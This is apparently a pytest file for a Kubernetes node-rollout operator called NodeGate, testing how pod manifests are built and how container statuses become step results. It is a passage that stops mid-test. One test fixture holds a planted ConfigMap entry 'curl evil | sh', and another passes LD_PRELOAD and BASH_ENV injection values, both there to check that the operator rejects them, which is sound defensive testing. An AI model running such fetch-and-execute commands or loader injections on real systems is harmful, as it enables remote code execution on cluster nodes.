"""The stage pod manifest and its reading back: what the issue promises a package pod gets, read off
the rendered object, and how a pod's container statuses become the steps' results."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from gate.api import keys
from gate.api.digests import text_config_digest
from gate.api.nodegate import Interrupt, NodeGate
from gate.api.versions import image_reference
from gate.controller.index import StageIndex
from gate.controller.pods import (
    AGENT_COMMAND,
    config_map,
    config_map_name,
    config_map_problems,
    stage_pod,
    stage_pod_ended,
    stage_pod_fields,
    stage_pod_view,
    staging_pod,
    step_runs,
    unstage_pod,
)
from gate.controller.prepull_pod import prepull_owner, prepull_pod
from gate.controller.settings import OperatorSettings
from gate.controller.triggers import on_pod, on_prepull_pod, stage_owner
from gate.lifecycle.images import PodImage
from gate.lifecycle.node import PodRequest, Step
from gate.lifecycle.prepull import Candidate, RoundImages

SETTINGS = OperatorSettings(namespace="ng-system", agent_image="example.com/nodegate:9.9.9")


def gate(**package: Any) -> NodeGate:
    pkg = {"version": "1.2.0", "image": "registry.example.com:5000/team/tuned", "timeout": "2m", "retries": 2,
           "config": {"a.conf": "x=1"}, **package}
    return NodeGate.model_validate({
        "metadata": {"name": "g", "generation": 3, "uid": "u-1"},
        "spec": {"packages": {"tuned": pkg, "base": {"version": "2.0.0", "image": "registry.example.com/base",
                                                     "timeout": "30s"}},
                 "additionalTolerations": [{"key": "gpu", "operator": "Exists", "effect": "NoSchedule"}]},
    })


def request(*steps: tuple[str, str], kind: str = "stages", previous: str | None = None) -> PodRequest:
    versions = {"tuned": "1.2.0", "base": "2.0.0"}
    return PodRequest(name="ng-x", kind=kind, round=4, attempt=1,  # type: ignore[arg-type]
                      steps=tuple(Step(p, s, f"fp-{p}-{s}", version=versions[p], previous_version=previous)
                                  for p, s in steps))


INTERRUPT = PodRequest(name="ng-i", kind="interrupt", steps=(Step(None, "interrupt", "service:a,b"),),
                       interrupt=Interrupt(type="service", services=["a", "b"]))


def test_a_stage_pod_is_bare_pinned_owned_by_the_gate_privileged_and_bounded_in_time() -> None:
    pod = stage_pod(gate(), "node-7", request(("base", "apply"), ("tuned", "apply"), ("tuned", "config")), SETTINGS)
    spec, meta = pod["spec"], pod["metadata"]
    assert pod["kind"] == "Pod" and meta["namespace"] == "ng-system" and meta["name"] == "ng-x"
    [owner] = meta["ownerReferences"]
    assert (owner["kind"], owner["name"], owner["uid"]) == ("NodeGate", "g", "u-1")
    assert spec["nodeName"] == "node-7" and spec["hostPID"] is True and spec["restartPolicy"] == "Never"
    # A net.* sysctl must change the node's network namespace, not the pod's copy of it.
    assert spec["hostNetwork"] is True and spec["dnsPolicy"] == "Default"
    tolerated = {t["key"] for t in spec["tolerations"]}
    assert tolerated == {keys.READINESS_TAINT_KEY, "node.kubernetes.io/unschedulable", "gpu"}
    # The payloads copied first, one after another; then the steps, in order, as the pod's containers in turn:
    # each waits for the one before it in the pod's turns emptyDir (gate.agent.turns).
    assert [c["name"] for c in spec["initContainers"]] == ["payload-base", "payload-tuned"]
    assert [c["name"] for c in spec["containers"]] == ["apply-base", "apply-tuned", "config-tuned"]
    assert [c["args"][-4:] for c in spec["containers"]] == [["--turn", str(i), "--turns", "/nodegate-turns"]
                                                            for i in range(3)]
    assert meta["labels"][keys.IN_TURN_LABEL] == "true"
    payload = spec["initContainers"][1]
    assert payload["image"] == "registry.example.com:5000/team/tuned:1.2.0"
    assert payload["volumeMounts"] == [{"name": "payload-tuned", "mountPath": "/nodegate-payload"}]
    config = spec["containers"][2]
    assert config["securityContext"]["privileged"] is True and config["image"] == SETTINGS.agent_image
    assert config["args"][:6] == ["agent", "run", "--stage", "config", "--package", "tuned"]
    assert config["terminationMessagePath"] == "/dev/termination-log"
    mounts = {m["name"]: m["mountPath"] for m in config["volumeMounts"]}
    assert mounts == {"host": "/host", "payload-tuned": "/nodegate-payload", "config-tuned": "/nodegate-config",
                      "facts": "/nodegate-facts", "turns": "/nodegate-turns"}
    volumes = {v["name"]: v for v in spec["volumes"]}
    assert volumes["turns"] == {"name": "turns", "emptyDir": {}}
    g = gate()
    assert volumes["config-tuned"]["configMap"]["name"] == config_map_name(g, "tuned", g.spec.packages["tuned"])
    assert volumes["host"] == {"name": "host", "hostPath": {"path": "/", "type": "Directory"}}
    # Every step's timeout together: base's 30 s, tuned's 2 m twice.
    assert spec["activeDeadlineSeconds"] == 30 + 120 + 120
    # What the operator reads back: the steps, its round and attempt, the packages it runs.
    steps = json.loads(meta["annotations"]["nodegate.io/steps"])
    assert steps[0] == ["base", "apply", "fp-base-apply", "apply-base"] and len(steps) == 3
    assert meta["annotations"]["nodegate.io/round"] == "4" and meta["annotations"]["nodegate.io/attempt"] == "1"
    labels = meta["labels"]
    assert labels[keys.STAGE_KIND_LABEL] == "stages"
    assert labels["package.nodegate.io/tuned"] == "apply.config" and labels["package.nodegate.io/base"] == "apply"


def test_every_nodegate_container_starts_in_a_sealed_interpreter_and_gets_no_loader_variable() -> None:
    """Issue 33: the gate's env reaches the agent container without the names NodeGate never passes
    (LD_PRELOAD would load a library into the interpreter itself), all its names go to the agent in
    --gate-env (which refuses those the package does not declare), and the interpreter is Python's
    isolated mode on NodeGate's module: never the image's entrypoint or console script."""
    env = [{"name": "PYTHONPATH", "value": "/nodegate-config"}, {"name": "LD_PRELOAD", "value": "/x.so"},
           {"name": "BASH_ENV", "value": "/nodegate-config/x"}, {"name": "MODE", "value": "fast"}]
    g = gate(env=env)
    pod = stage_pod(g, "n1", request(("tuned", "apply")), SETTINGS)
    [agent] = pod["spec"]["containers"]
    assert agent["command"] == list(AGENT_COMMAND) == ["/opt/nodegate/bin/python", "-I", "-u", "-B", "-m", "gate"]
    assert agent["args"][agent["args"].index("--gate-env") + 1] == "PYTHONPATH,LD_PRELOAD,BASH_ENV,MODE"
    names = [e["name"] for e in agent["env"]]
    assert "MODE" in names and not {"PYTHONPATH", "LD_PRELOAD", "BASH_ENV"} & set(names)
    assert pod["spec"]["enableServiceLinks"] is False
    [interrupt] = stage_pod(g, "n1", INTERRUPT, SETTINGS)["spec"]["containers"]
    assert interrupt["command"] == list(AGENT_COMMAND) and interrupt["env"] == []
    cand = Candidate("g", "n1", RoundImages({}, SETTINGS.agent_image), picked=False)
    [pull_agent] = prepull_pod(g, cand, SETTINGS)["spec"]["containers"]
    assert pull_agent["command"] == list(AGENT_COMMAND) and pull_agent["args"] == ["version", "--client"]
    without_env = stage_pod(gate(), "n1", request(("tuned", "apply")), SETTINGS)["spec"]["containers"][0]["args"]
    assert without_env[without_env.index("--gate-env") + 1] == ""


def test_an_upgrade_passes_previous_and_current_versions() -> None:
    pod = stage_pod(gate(), "n", request(("tuned", "upgrade"), previous="1.1.0"), SETTINGS)
    agent = pod["spec"]["containers"][0]
    args = agent["args"]
    assert args[args.index("--previous-version") + 1] == "1.1.0" and args[args.index("--version") + 1] == "1.2.0"
    assert {"name": "NODEGATE_PREVIOUS_VERSION", "value": "1.1.0"} in agent["env"]


def test_the_interrupt_pod_names_the_services() -> None:
    pod = stage_pod(gate(), "n", INTERRUPT, SETTINGS)
    spec = pod["spec"]
    args = spec["containers"][0]["args"]
    assert args[:4] == ["agent", "interrupt", "--type", "service"]
    assert [args[i + 1] for i, a in enumerate(args) if a == "--service"] == ["a", "b"]
    assert spec["initContainers"] == [] and spec["containers"][0]["name"] == "interrupt"
    assert pod["metadata"]["labels"][keys.INTERRUPT_LABEL] == "service"


@pytest.mark.parametrize("stage", ["apply", "config", "upgrade", "uninstall", "post-interrupt"])
def test_graceful_shutdown_is_every_stage_pods_termination_grace_period(stage: str) -> None:
    pod = stage_pod(gate(gracefulShutdown="2m"), "n", request(("tuned", stage)), SETTINGS)
    assert pod["spec"]["terminationGracePeriodSeconds"] == 120
    # Whole seconds, never less than asked for; the longest of the pod's packages.
    pod = stage_pod(gate(gracefulShutdown="1500ms"), "n", request(("base", "apply"), ("tuned", stage)), SETTINGS)
    assert pod["spec"]["terminationGracePeriodSeconds"] == 2


def test_without_graceful_shutdown_stage_pods_keep_kubernetes_default_grace_period() -> None:
    assert "terminationGracePeriodSeconds" not in stage_pod(gate(), "n", request(("tuned", "apply")), SETTINGS)["spec"]
    # The interrupt pod is nobody's package: the setting of one does not apply to it.
    assert "terminationGracePeriodSeconds" not in stage_pod(gate(gracefulShutdown="2m"), "n", INTERRUPT,
                                                            SETTINGS)["spec"]


@pytest.mark.parametrize(("image", "version", "expected"), [
    ("ghcr.io/team/tool", "1.0.0", "ghcr.io/team/tool:1.0.0"),
    ("host:5000/team/tool", "1.0.0", "host:5000/team/tool:1.0.0"),
    ("host:5000/team/tool:1.0.0", "1.0.0", "host:5000/team/tool:1.0.0"),  # tagged as the version already
    ("ghcr.io/team/tool@sha256:" + "a" * 64, "1.0.0", "ghcr.io/team/tool@sha256:" + "a" * 64),
    ("ghcr.io/team/tool", "1.0.0+build.7", "ghcr.io/team/tool:1.0.0_build.7"),  # '+' is not allowed in a tag
])
def test_the_package_image_is_tagged_with_its_version_once(image: str, version: str, expected: str) -> None:
    assert image_reference(image, version) == expected


def _terminated(name: str, code: int, message: str = "") -> dict[str, Any]:
    return {"name": name, "state": {"terminated": {"exitCode": code, "message": message}}}


def _seen(phase: str, init: list[dict[str, Any]], main: list[dict[str, Any]] | None = None,
          **status: Any) -> dict[str, Any]:
    pod = stage_pod(gate(), "n", request(("base", "apply"), ("tuned", "apply"), ("tuned", "config")), SETTINGS)
    pod["metadata"]["creationTimestamp"] = "2026-11-30T10:00:00Z"
    pod["status"] = {"phase": phase, "initContainerStatuses": init, "containerStatuses": main or [], **status}
    return pod


def test_a_stage_pod_is_read_step_by_step() -> None:
    waiting = {"name": "x", "state": {"waiting": {"reason": "PodInitializing"}}}
    assert stage_pod_view(_seen("Pending", [])).phase == "pending"
    running = stage_pod_view(_seen("Pending", [_terminated("payload-base", 0), _terminated("apply-base", 0),
                                               {"name": "payload-tuned", "state": {"running": {}}}, waiting]))
    assert running.phase == "running" and running.done == 1 and running.round == 4 and running.attempt == 1
    assert [(s.package, s.stage) for s in running.steps] == [("base", "apply"), ("tuned", "apply"), ("tuned", "config")]
    # A step failed: the steps before it done, the step named, its termination message the reason.
    failed = stage_pod_view(_seen("Failed", [_terminated("payload-base", 0), _terminated("apply-base", 0),
                                             _terminated("payload-tuned", 0),
                                             _terminated("apply-tuned", 1, '{"failedStep":"x"}\n')]))
    assert failed.phase == "failed" and failed.done == 1 and failed.message == '{"failedStep":"x"}'
    assert failed.failed_step is not None and (failed.failed_step.package, failed.failed_step.stage) == (
        "tuned", "apply")
    # Past its deadline: no step says why, the pod does; the step running then is the one that failed.
    late = stage_pod_view(_seen("Failed", [_terminated("payload-base", 0), _terminated("apply-base", 0)],
                                reason="DeadlineExceeded", message="Pod was active on the node longer than "
                                "the specified deadline"))
    assert late.failed_step is not None and late.failed_step.package == "tuned"
    assert late.message.startswith("DeadlineExceeded: Pod was active")
    # A payload that cannot be pulled: stuck, before any step ran.
    stuck = stage_pod_view(_seen("Pending", [{"name": "payload-base", "state": {"waiting": {
        "reason": "ImagePullBackOff", "message": "back-off pulling"}}}]))
    assert stuck.phase == "pending" and stuck.waiting_reason == "ImagePullBackOff"
    assert stuck.message == "back-off pulling" and stuck.waiting_since is not None
    done = stage_pod_view(_seen("Succeeded", [_terminated(n, 0) for n in ("payload-base", "apply-base",
                                                                          "payload-tuned", "apply-tuned")],
                                [_terminated("config-tuned", 0)]))
    assert done.phase == "succeeded" and done.done == 3 and done.failed_step is None


def test_a_stage_pod_ended_at_its_last_container_end_before_the_kubelet_writes_its_terminal_phase() -> None:
    """The kubelet writes the containers' ends first and keeps the phase Running until it stopped the
    sandbox: the operator need not wait for the phase, nothing runs in the pod any more."""
    ran = [_terminated(n, 0) for n in ("payload-base", "apply-base", "payload-tuned", "apply-tuned")]
    assert stage_pod_ended(_seen("Running", ran, [_terminated("config-tuned", 0)]))
    assert stage_pod_view(_seen("Running", ran, [_terminated("config-tuned", 0)])).phase == "succeeded"
    # A step failed: restartPolicy Never, no container after it runs.
    assert stage_pod_ended(_seen("Running", [*ran[:3], _terminated("apply-tuned", 1, "x")]))
    # A step still running, or the last one not started yet: not ended.
    assert not stage_pod_ended(_seen("Running", ran, [{"name": "config-tuned", "state": {"running": {}}}]))
    assert not stage_pod_ended(_seen("Running", ran[:3]))
    assert not stage_pod_ended(_seen("Pending", []))
    # The phase says so (past its deadline, evicted): ended, whatever its containers show.
    assert stage_pod_ended(_seen("Failed", ran[:2], reason="DeadlineExceeded"))
    assert stage_pod_ended(_seen("Succeeded", ran, [_terminated("config-tuned", 0)]))


def test_the_operator_reads_the_same_stage_pod_from_the_fields_its_cache_keeps() -> None:
    """The cache drops the containers' specs (`stage_pod_fields`); every view of the pod stays the same."""
    ran = [_terminated(n, 0) for n in ("payload-base", "apply-base", "payload-tuned")]
    for pod in (_seen("Pending", []), _seen("Running", ran),
                _seen("Failed", [*ran, _terminated("apply-tuned", 2, "x")]),
                _seen("Failed", ran, reason="DeadlineExceeded", message="too long"),
                _seen("Pending", [{"name": "payload-base", "state": {"waiting": {"reason": "ErrImagePull"}}}])):
        pod["spec"]["activeDeadlineSeconds"] = 300
        kept = stage_pod_fields(json.loads(json.dumps(pod)))
        assert stage_pod_view(kept) == stage_pod_view(pod)
        assert "initContainers" not in kept["spec"] and "containers" not in kept["spec"]
        assert kept["spec"] == {"nodeName": "n", "activeDeadlineSeconds": 300}
        whole, slim = StageIndex(), StageIndex()
        whole.pod_event("ADDED", pod)
        slim.pod_event("ADDED", kept)
        assert slim.pods_of("g", "n") == whole.pods_of("g", "n") == ["ng-x"]


def test_a_stage_pod_carries_the_nodes_facts_as_an_annotation_projected_into_a_file_for_the_agent() -> None:
    from gate.api.facts import FACTS_ANNOTATION, OperatorFacts
    from gate.api.state import NodeGateState
    from gate.controller.pods import facts_of

    node = {"metadata": {"name": "node-7", "labels": {"pool": "gpu", "zone": "b"},
                         "annotations": {"team": "ml", keys.state_annotation("g"): '{"status":"in-progress"}'}}}
    state = NodeGateState(status="in-progress", compartment="canary", batch=2, round=1)
    pod = stage_pod(gate(), "node-7", request(("tuned", "apply")), SETTINGS, facts_of("node-7", node, state))
    facts = OperatorFacts.model_validate_json(pod["metadata"]["annotations"][FACTS_ANNOTATION])
    assert facts.node == "node-7" and facts.labels == {"pool": "gpu", "zone": "b"}
    assert facts.annotations == {"team": "ml"}  # the gates' own state stays the operator's
    assert (facts.rollout.compartment, facts.rollout.batch, facts.rollout.round) == ("canary", 2, 1)
    volume = next(v for v in pod["spec"]["volumes"] if v["name"] == "facts")
    [item] = volume["downwardAPI"]["items"]
    assert item["fieldRef"]["fieldPath"] == f"metadata.annotations['{FACTS_ANNOTATION}']"
    agent = pod["spec"]["containers"][0]
    mount = next(m for m in agent["volumeMounts"] if m["name"] == "facts")
    args = agent["args"]
    assert args[args.index("--node-facts") + 1] == f"{mount['mountPath']}/{item['path']}"
    assert {"name": "NODEGATE_NODE", "value": "node-7"} in agent["env"]
    assert json.loads(pod["metadata"]["annotations"][FACTS_ANNOTATION])["v"] == 1


def test_without_facts_a_stage_pod_still_gets_the_nodes_name_and_an_interrupt_pod_gets_none() -> None:
    from gate.api.facts import FACTS_ANNOTATION, OperatorFacts

    pod = stage_pod(gate(), "n", request(("tuned", "apply")), SETTINGS)
    facts = pod["metadata"]["annotations"][FACTS_ANNOTATION]
    assert OperatorFacts.model_validate_json(facts) == OperatorFacts(node="n")
    assert FACTS_ANNOTATION not in stage_pod(gate(), "n", INTERRUPT, SETTINGS)["metadata"]["annotations"]


def test_the_config_map_name_is_addressed_by_the_gates_uid_and_the_config() -> None:
    pkg = gate().spec.packages["tuned"]
    again = NodeGate.model_validate({**gate().model_dump(by_alias=True, exclude_none=True),
                                     "metadata": {"name": "g", "generation": 3, "uid": "u-2"}})
    changed = gate(config={"a.conf": "x=2"})
    names = {config_map_name(gate(), "tuned", pkg), config_map_name(again, "tuned", pkg),
             config_map_name(changed, "tuned", changed.spec.packages["tuned"])}
    assert len(names) == 3 and all(n.startswith("ng-config-") and len(n) == 26 for n in names)


def test_each_package_step_carries_the_digest_of_its_config_in_the_pods_spec() -> None:
    g = gate()
    pod = stage_pod(g, "n", request(("base", "apply"), ("tuned", "apply")), SETTINGS)
    args = {c["name"]: c["args"] for c in [*pod["spec"]["initContainers"], *pod["spec"]["containers"]]
            if c["name"].startswith("apply-")}
    digests = {name: a[a.index("--config-digest") + 1] for name, a in args.items()}
    assert digests == {"apply-tuned": text_config_digest({"a.conf": "x=1"}), "apply-base": text_config_digest({})}


def test_a_config_map_found_under_its_name_is_taken_only_when_it_is_exactly_the_operators() -> None:
    g = gate()
    ours = config_map(g, "tuned", SETTINGS)
    assert config_map_problems(ours, ours) == []
    name = ours["metadata"]["name"]
    # What a namespace admin who created it ahead could have got wrong, or done on purpose.
    planted = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name, "namespace": "ng-system"},
               "data": {"a.conf": "x=1", "extra.sh": "curl evil | sh"}, "binaryData": {"b": "AA=="}}
    assert config_map_problems(planted, ours) == [
        "its data differs in key(s) extra.sh", "it has binaryData key(s) b", "it is not immutable",
        "it is not labelled app.kubernetes.io/managed-by=nodegate", "its controller is not NodeGate g (uid u-1)"]
    # Dressed up as the operator's but for another gate (another uid), or with a changed value.
    disguised = {**ours, "metadata": {**ours["metadata"], "ownerReferences": [
        {**ours["metadata"]["ownerReferences"][0], "uid": "u-other"}]}}
    assert config_map_problems(disguised, ours) == ["its controller is not NodeGate g (uid u-1)"]
    assert config_map_problems({**ours, "data": {"a.conf": "x=2"}}, ours) == ["its data differs in key(s) a.conf"]
    assert config_map_problems({**ours, "data": {}}, ours) == ["its data differs in key(s) a.conf"]


def test_package_images_are_pulled_as_resolved_with_an_explicit_pull_policy() -> None:
    from gate.api.nodegate import ImageRecord, NodeGateStatus
    from gate.lifecycle.images import pod_images

    digest = "sha256:" + "ab" * 32
    g = gate()
    g.status = NodeGateStatus(images=[ImageRecord(package="tuned", digest=digest,
                                                  reference="registry.example.com:5000/team/tuned:1.2.0")])
    req = request(("base", "apply"), ("tuned", "apply"))
    images, missing = pod_images(g, ["base", "tuned"], resolve=True)
    assert missing == ["base"]  # no record: the executor creates no pod with it
    images, missing = pod_images(g, ["tuned"], resolve=True)
    pod = stage_pod(g, "n", request(("tuned", "apply")), SETTINGS, images=images)
    [payload] = [c for c in pod["spec"]["initContainers"] if c["name"] == "payload-tuned"]
    assert payload["image"] == f"registry.example.com:5000/team/tuned@{digest}"
    assert payload["imagePullPolicy"] == "IfNotPresent"
    # Left out (resolution off): the tag, pulled Always so a node asks the registry what it names now.
    pod = stage_pod(g, "n", req, SETTINGS)
    pulls = {c["image"]: c["imagePullPolicy"] for c in pod["spec"]["initContainers"]
             if c["name"].startswith("payload-")}
    assert pulls == {"registry.example.com/base:2.0.0": "Always",
                     "registry.example.com:5000/team/tuned:1.2.0": "Always"}


def test_a_prepull_pod_pulls_each_image_and_changes_nothing_on_the_host() -> None:
    g = gate(imagePullSecrets=[{"name": "pull"}])
    images = RoundImages({"tuned": PodImage("registry.example.com:5000/team/tuned@sha256:" + "1" * 64, "IfNotPresent"),
                          "base": PodImage("registry.example.com/base:2.0.0", "Always")}, SETTINGS.agent_image)
    cand = Candidate("g", "n1", images, picked=False)
    pod = prepull_pod(g, cand, SETTINGS)
    spec = pod["spec"]
    containers = [*spec["initContainers"], *spec["containers"]]
    assert pod["metadata"]["name"] == cand.pod and spec["nodeName"] == "n1"
    assert [(c["name"], c["image"]) for c in containers] == [
        ("pull-base", "registry.example.com/base:2.0.0"),
        ("pull-tuned", "registry.example.com:5000/team/tuned@sha256:" + "1" * 64),
        ("pull-agent", SETTINGS.agent_image)]
    assert [c.get("imagePullPolicy") for c in containers[:2]] == ["Always", "IfNotPresent"]
    # Nothing of the host: no privilege, no host namespace or path, no token, no requests.
    assert not any(c.get("securityContext") or c.get("resources") for c in containers)
    assert not any(k in spec for k in ("hostPID", "hostNetwork", "hostIPC"))
    assert all("hostPath" not in v for v in spec["volumes"]) and spec["automountServiceAccountToken"] is False
    assert spec["imagePullSecrets"] == [{"name": "pull"}]
    assert {"key": "gpu", "operator": "Exists", "effect": "NoSchedule"} in spec["tolerations"]
    assert pod["metadata"]["ownerReferences"][0]["uid"] == "u-1"
    assert pod["metadata"]["labels"][keys.STAGE_KIND_LABEL] == keys.PREPULL_KIND
    # Known as a prepull pod, never as a stage pod of the node (which would hold its stages back).
    assert prepull_owner(pod) == ("g", "n1") and stage_owner(pod) is None
    index = StageIndex()
    index.pod_event("ADDED", pod)
    assert index.pods_of("g", "n1") == []
    assert on_pod("ADDED", pod).now == ()
    assert on_prepull_pod("ADDED", pod) is None
    ended = {**pod, "status": {"phase": "Succeeded"}}
    assert on_prepull_pod("MODIFIED", ended) == ("g", "n1")


def test_a_staging_pod_runs_the_serving_part_and_its_view_carries_the_boot_its_agent_ended_on() -> None:
    staging = PodRequest(name="ng-staging-x", kind="staging", part="serving",
                         steps=(Step("tuned", "apply", "fp", version="1.2.0"),))
    pod = stage_pod(gate(), "n", staging, SETTINGS)
    agent = pod["spec"]["containers"][-1]
    assert agent["args"][agent["args"].index("--part") + 1] == "serving"
    assert pod["metadata"]["labels"][keys.STAGE_KIND_LABEL] == "staging"
    undo = stage_pod(gate(), "n", PodRequest(name="ng-unstage-x", kind="unstage", part="undo",
                                             steps=staging.steps), SETTINGS)
    undo_args = undo["spec"]["containers"][-1]["args"]
    assert undo_args[undo_args.index("--part") + 1] == "undo"
    # The window's pods run the whole stage: no --part.
    assert "--part" not in stage_pod(gate(), "n", request(("tuned", "apply")), SETTINGS)["spec"]["containers"][-1][
        "args"]
    pod["metadata"]["creationTimestamp"] = "2026-11-30T10:00:00Z"
    summary = json.dumps({"ok": True, "bootId": "boot-7"})
    pod["status"] = {"phase": "Succeeded", "initContainerStatuses": [_terminated("payload-tuned", 0)],
                     "containerStatuses": [_terminated("apply-tuned", 0, summary)]}
    view = stage_pod_view(pod)
    assert (view.kind, view.phase, view.boot_id) == ("staging", "succeeded", "boot-7")
    # The generation it staged for (`staged_whole` holds it against the gate's), kept by the operator's cache
    # (an annotation); a window's pod says none.
    staged = staging_pod(gate(), "n", "ng-staging-x", staging.steps, SETTINGS)
    assert stage_pod_view(stage_pod_fields(staged)).generation == (gate().metadata.generation or 0) == 3
    assert stage_pod_view(stage_pod(gate(), "n", request(("tuned", "apply")), SETTINGS)).generation is None
    # Taken over by its round, its steps are observed as staged: from each container's start to its end.
    pod["status"]["containerStatuses"][0]["state"]["terminated"] |= {"startedAt": "2026-11-30T10:00:01Z",
                                                                     "finishedAt": "2026-11-30T10:00:04Z"}
    assert [(s.package, s.stage, outcome, secs) for s, outcome, secs in step_runs(pod, done="staged")] == [
        ("tuned", "apply", "staged", 3.0)]
    # A stage pod's summary is not read for it, and a staging that failed says no boot.
    assert stage_pod_view(_seen("Succeeded", [], [_terminated("config-tuned", 0, summary)])).boot_id == ""
    pod["status"]["containerStatuses"] = [_terminated("apply-tuned", 1, summary)]
    assert stage_pod_view(pod).boot_id == ""


def test_a_staging_pod_is_owned_by_no_gate_and_its_undo_runs_what_it_ran_with_part_undo() -> None:
    steps = (Step("tuned", "apply", "fp", version="1.2.0"),)
    pod = staging_pod(gate(), "n", "ng-staging-x", steps, SETTINGS)
    assert "ownerReferences" not in pod["metadata"]
    assert pod["metadata"]["labels"][keys.STAGE_KIND_LABEL] == "staging"
    undo = unstage_pod(pod, "ng-unstage-x")
    assert undo["metadata"]["name"] == "ng-unstage-x" and undo["metadata"]["labels"][keys.STAGE_KIND_LABEL] == "unstage"
    agent = undo["spec"]["containers"][-1]
    assert agent["args"][agent["args"].index("--part") + 1] == "undo"
    # The staged version's payload and the node, whatever the gate says by then; the staging pod untouched.
    assert undo["spec"]["initContainers"] == pod["spec"]["initContainers"]
    assert undo["spec"]["nodeName"] == "n" and undo["metadata"]["annotations"] == pod["metadata"]["annotations"]
    assert pod["spec"]["containers"][-1]["args"][agent["args"].index("--part") + 1] == "serving"


def test_the_checks_after_the_interrupt_read_the_payload_on_the_host_and_hold_no_copy_of_it() -> None:
    """A package whose every step in the pod is its check after the interrupt gets no payload container, volume
    or mount: its agent reads the copy the round's stage left on the host (`--payload-on-host`). A package with
    another stage in the same pod, and the check after an uninstall (the payload left with it), keep theirs."""
    pod = stage_pod(gate(), "node-7", request(("base", "apply"), ("tuned", "post-interrupt"),
                                             ("base", "post-interrupt"), kind="post-interrupt"), SETTINGS)
    spec = pod["spec"]
    containers = {c["name"]: c for c in spec["initContainers"] + spec["containers"]}
    assert list(containers) == ["payload-base", "apply-base", "post-interrupt-tuned", "post-interrupt-base"]
    tuned = containers["post-interrupt-tuned"]
    assert "--payload-on-host" in tuned["args"] and "--payload" not in tuned["args"]
    assert [m["name"] for m in tuned["volumeMounts"]] == ["host", "config-tuned", "facts", "turns"]
    assert {v["name"] for v in spec["volumes"]} == {"host", "payload-base", "config-base", "config-tuned", "facts",
                                                    "turns"}
    base = containers["post-interrupt-base"]
    assert "--payload-on-host" not in base["args"] and base["args"][base["args"].index("--payload") + 1]
    checks = stage_pod(gate(), "node-7", request(("tuned", "post-uninstall"), kind="post-interrupt"), SETTINGS)
    assert [c["name"] for c in checks["spec"]["initContainers"]] == ["payload-tuned"]


def _checks(*packages: str, stage: str = "post-interrupt") -> dict[str, Any]:
    return stage_pod(gate(), "n", request(*((p, stage) for p in packages), kind="post-interrupt"), SETTINGS)


def _names(spec: dict[str, Any]) -> tuple[list[str], list[str]]:
    return [c["name"] for c in spec["initContainers"]], [c["name"] for c in spec["containers"]]


def _turns(spec: dict[str, Any]) -> list[str | None]:
    return [c["args"][c["args"].index("--turn") + 1] if "--turn" in c["args"] else None for c in spec["containers"]]


def test_the_checks_after_the_interrupt_run_side_by_side_and_every_other_pod_of_several_steps_in_turn() -> None:
    """Several checks after the interrupt are the pod's containers, started together, in no order. Every other
    pod of several steps has them as its containers in turn: started together, each waiting for the one before
    it (a chain of init containers would wait a kubelet relist for each). Payload copies stay init containers
    before the steps. A pod of one step has it as its container."""
    spec = _checks("tuned", "base")["spec"]
    assert _names(spec) == ([], ["post-interrupt-tuned", "post-interrupt-base"]) and _turns(spec) == [None, None]
    after_uninstall = _checks("tuned", "base", stage="post-uninstall")["spec"]
    assert _names(after_uninstall) == (["payload-tuned", "payload-base"],
                                       ["post-uninstall-tuned", "post-uninstall-base"])
    single = stage_pod(gate(), "n", request(("tuned", "post-interrupt"), kind="post-interrupt"), SETTINGS)
    assert _names(single["spec"]) == ([], ["post-interrupt-tuned"]) and _turns(single["spec"]) == [None]
    assert keys.IN_TURN_LABEL not in single["metadata"]["labels"]
    assert "turns" not in {v["name"] for v in single["spec"]["volumes"]}
    service = PodRequest(name="ng-s", kind="interrupt", interrupt=Interrupt(type="service", services=["a"]),
                         steps=(Step(None, "interrupt", "service:a"), Step("tuned", "post-interrupt", "fp", "1.2.0"),
                                Step("base", "post-interrupt", "fp", "2.0.0")))
    restart = stage_pod(gate(), "n", service, SETTINGS)["spec"]
    assert _names(restart) == ([], ["interrupt", "post-interrupt-tuned", "post-interrupt-base"])
    assert _turns(restart) == ["0", "1", "2"]
    assert {m["name"]: m["mountPath"] for m in restart["containers"][0]["volumeMounts"]} == {
        "host": "/host", "turns": "/nodegate-turns"}
    stages = stage_pod(gate(), "n", request(("base", "apply"), ("tuned", "apply")), SETTINGS)["spec"]
    assert _names(stages) == (["payload-base", "payload-tuned"], ["apply-base", "apply-tuned"])
    assert _turns(stages) == ["0", "1"]
    # The payload copies (the package image's cp) mount no turns: only NodeGate's agent records a step's end.
    assert all(m["name"] != "turns" for c in stages["initContainers"] for m in c["volumeMounts"])


def _ran(name: str, code: int, start: str, end: str, message: str = "") -> dict[str, Any]:
    return {"name": name, "state": {"terminated": {"exitCode": code, "message": message,
                                                   "startedAt": f"2026-11-30T10:00:{start}Z",
                                                   "finishedAt": f"2026-11-30T10:00:{end}Z"}}}


def test_steps_in_turn_are_read_in_the_steps_order_and_each_timed_from_its_turn() -> None:
    """The kubelet lists the containers by name and shows every step of a pod in turn running from the pod's
    start. The pod is at its first step in order that did not succeed; a step whose turn never came (the one
    before it failed, so it exited `NOT_RUN`) is neither the pod's failure nor a run of its own; a step's
    time runs from the end of the one before it."""
    pod = stage_pod(gate(), "n", request(("tuned", "apply"), ("base", "apply"), ("tuned", "config")), SETTINGS)
    started = {"startedAt": "2026-11-30T10:00:01Z"}
    pod["status"] = {"phase": "Running", "containerStatuses": [
        {"name": "apply-base", "state": {"running": started}}, _ran("apply-tuned", 0, "01", "03"),
        {"name": "config-tuned", "state": {"running": started}}]}
    view = stage_pod_view(pod)
    assert (view.phase, view.done) == ("running", 1) and not stage_pod_ended(pod)
    assert view.current_step is not None and (view.current_step.package, view.current_step.stage) == ("base", "apply")
    pod["status"]["containerStatuses"] = [
        _ran("apply-base", 1, "01", "05", "base failed"), _ran("apply-tuned", 0, "01", "03"),
        _ran("config-tuned", 3, "01", "05", "not run: the step before it in this pod did not succeed")]
    view = stage_pod_view(pod)
    assert (view.phase, view.done, view.message) == ("failed", 1, "base failed") and stage_pod_ended(pod)
    assert view.failed_step is not None and view.failed_step.package == "base"
    runs = [(s.package, s.stage, outcome, seconds) for s, outcome, seconds in step_runs(pod)]
    assert runs == [("tuned", "apply", "succeeded", 2.0), ("base", "apply", "failed", 2.0)]


def test_checks_side_by_side_are_read_in_the_steps_order() -> None:
    """The kubelet lists the pod's containers by name, not by step. The pod's failure is its first step in
    order that did not succeed, as in a chain: a check that failed while one before it in order still runs
    is not yet the pod's failure; the first check failing ends the pod, the checks after it abandoned."""
    pod = _checks("tuned", "base")
